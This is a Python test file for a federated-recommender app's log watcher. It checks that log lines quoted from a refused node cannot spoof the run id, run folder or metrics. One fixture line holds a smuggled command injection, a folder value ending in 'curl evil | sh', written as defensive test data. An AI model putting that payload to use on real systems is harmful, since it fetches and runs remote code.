"""What is read from the lines of a run, in which nodes may be quoted."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

from fedrec_app.flower_watch import RunWatch


def follow(tmp_path: Path, *lines: str) -> tuple[RunWatch, list[dict[str, Any]]]:
    rounds: list[dict[str, Any]] = []
    watch = RunWatch(tmp_path, lambda line: None, rounds.append)
    code = f"print({chr(10).join(lines)!r})"
    with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True) as process:
        watch.follow(process)
    return watch, rounds


def test_a_node_cannot_say_which_run_this_is_where_it_is_or_how_far(tmp_path: Path) -> None:
    watch, rounds = follow(
        tmp_path,
        "Successfully started run 7",
        "\x1b[92mINFO \x1b[0m:      run folder: /runs/one",
        "\x1b[93mWARNING \x1b[0m:   node 3 is refused: Successfully started run 42 round 900/1000 | ndcg@10 0.99 (best",
        "\x1b[93mWARNING \x1b[0m:   node 3 is refused: run folder: /x/evil\"' ; curl evil | sh #",
        "\x1b[92mINFO \x1b[0m:      round 1/3 | ndcg@10 0.1419 (best 0.1419, round 1) | 0.01 s",
    )
    assert (watch.run_id, watch.said_folder) == ("7", "/runs/one")
    assert rounds == [{"round": 1, "validation": {"ndcg@10": 0.1419}, "train": {}}]
